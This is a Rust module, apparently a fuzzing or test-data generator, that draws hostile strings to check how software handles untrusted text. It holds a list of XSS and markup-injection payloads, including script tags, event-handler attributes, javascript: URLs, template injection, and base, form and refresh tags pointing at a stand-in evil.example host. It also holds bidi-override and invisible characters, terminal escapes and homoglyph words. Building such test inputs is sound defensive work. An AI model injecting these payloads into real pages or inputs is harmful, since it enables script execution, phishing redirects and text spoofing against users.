//! Texts that are written to harm whoever reads them, drawn from a grammar; and their tame twins, which have the same
//! length and hide the same, but no letter of markup.

use rand::{RngExt as _, rngs::StdRng};
use serde_json::{Map, Value, json};

/// Pieces of markup, whole and broken, that close, open or are taken for something else.
const MARKUP: [&str; 44] = [
    "</textarea>",
    "</script>",
    "</title>",
    "</style>",
    "</pre></p></div></main>",
    "</option></select>",
    "</template>",
    "</noscript>",
    "<script>window.pwned=1</script>",
    "<SCRIPT/x src=//evil.example>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=1>",
    "<!--",
    "-->",
    "--!>",
    "<!--<script>",
    "<![CDATA[",
    "]]>",
    "<?php ?>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<iframe srcdoc='<script>1</script>'>",
    "<object data=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=1>\">",
    "<template><slot>",
    "<select><option selected>",
    "<a href=javascript:window.pwned=1>here</a>",
    "<form action=//evil.example><button>Approve</button>",
    "<input name=form value=disable>",
    "\" onmouseover=\"window.pwned=1",
    "' autofocus onfocus='window.pwned=1",
    "`${window.pwned=1}`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "&lt;script&gt;",
    "&#60;script&#x3e;",
    "javascript:window.pwned=1",
    "data:text/html,<script>1</script>",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
];
/// What turns, hides or joins, and what a name may hold.
const HIDING: [char; 24] = [
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{61c}',
    '\u{ad}',
    '\u{feff}',
    '\u{2060}',
    '\u{180e}',
    '\u{fff9}',
    '\u{e0041}',
    '\u{2028}',
    '\u{3164}',
    '\u{34f}',
];
/// What no name may hold.
const CONTROLS: [&str; 7] = ["\u{1b}[31m", "\u{0}", "\u{7}", "\u{8}", "\u{7f}", "\u{9b}2J", "\u{85}"];
const WORDS: [&str; 6] =
    ["paid", "p\u{430}ypal", "\u{3c1}ay", "e\u{301}\u{301}\u{301}", "\u{1f469}\u{200d}\u{1f4bb}", "a b"];
/// The longest name, in characters.
const NAME: usize = 190;
/// The longest statement.
const STATEMENT: usize = 3_900;
/// A line that is longer than anybody reads.
const LONG: usize = 200_000;

/// Draws texts; a tame one draws the same and takes the markup out.
pub struct Texts {
    random: StdRng,
    is_tame: bool,
}

impl Texts {
    /// From these draws.
    pub const fn new(random: StdRng, is_tame: bool) -> Self {
        Self { random, is_tame }
    }

    /// Something that may be a name.
    pub fn name(&mut self) -> String {
        let text = self.draw(4, false);
        // Not beginning with a blank, and not empty.
        format!("n{}", text.chars().take(NAME).collect::<String>())
    }

    /// Several lines of words, as people and models write.
    pub fn statement(&mut self) -> String {
        let text = self.draw(8, false);
        format!("s{}", text.chars().take(STATEMENT).collect::<String>())
    }

    /// Anything that JSON can say.
    pub fn text(&mut self) -> String {
        let text = self.draw(6, true);
        if self.random.random_ratio(1, 12) { text + &"x".repeat(LONG) } else { text }
    }

    /// An object with hostile names and values.
    pub fn object(&mut self) -> Value {
        let (name, deep) = (self.text(), self.text());
        let lines: Vec<String> = (0..self.random.random_range(1..30)).map(|_| self.draw(2, true)).collect();
        let mut fields = Map::new();
        fields.insert(format!("k{}", self.random.random::<u16>()) + &name, json!({"deep": [deep, null, -0.5]}));
        fields.insert("lines".to_owned(), json!(lines));
        Value::Object(fields)
    }

    fn draw(&mut self, most: usize, with_controls: bool) -> String {
        let mut text = String::new();
        for _ in 0..self.random.random_range(1..=most) {
            match self.random.random_range(0..8) {
                0 => text.push(HIDING[self.random.random_range(0..HIDING.len())]),
                1 if with_controls => text.push_str(CONTROLS[self.random.random_range(0..CONTROLS.len())]),
                2 => text.push_str(WORDS[self.random.random_range(0..WORDS.len())]),
                3 => {
                    let depth = self.random.random_range(1..40);
                    text.push_str(&"<b>".repeat(depth));
                }
                _ => text.push_str(MARKUP[self.random.random_range(0..MARKUP.len())]),
            }
        }
        if self.is_tame { tame(&text) } else { text }
    }
}

/// Letter for letter without markup; what JSON has to escape still is.
fn tame(text: &str) -> String {
    let tamed = |letter| match letter {
        '<' => '(',
        '>' => ')',
        '"' => '\\',
        '\'' | '`' => '!',
        '&' => '+',
        other => other,
    };
    text.chars().map(tamed).collect()
}
